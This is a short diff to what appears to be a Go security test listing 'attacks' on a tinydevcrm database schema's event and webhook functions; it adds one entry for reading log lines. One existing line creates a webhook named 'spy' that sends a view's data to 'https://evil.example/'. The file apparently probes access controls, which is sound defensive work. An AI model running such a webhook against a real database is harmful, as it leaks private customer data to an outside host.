@@ -80,6 +80,7 @@ var attacks = []attack{
 	{"post the view elsewhere", "select tinydevcrm.create_webhook('spy', 'https://evil.example/', 'ann.v')"},
 	{"receive", "select from tinydevcrm.receive_events('mine')"},
 	{"receive by number", "select from tinydevcrm._receive_deliveries({subscription_id}, 10, '1 hour')"},
+	{"receive for a log", "select from tinydevcrm._receive_lines('mine', 10, '1 hour', 1000)"},
 	{"acknowledge", "select from tinydevcrm.acknowledge_events(array[{delivery_id}]) as count where count > 0"},
 	{"reject", "select tinydevcrm.reject_event({delivery_id})"},
 	{"redeliver", "select tinydevcrm.redeliver_event({delivery_id})"},
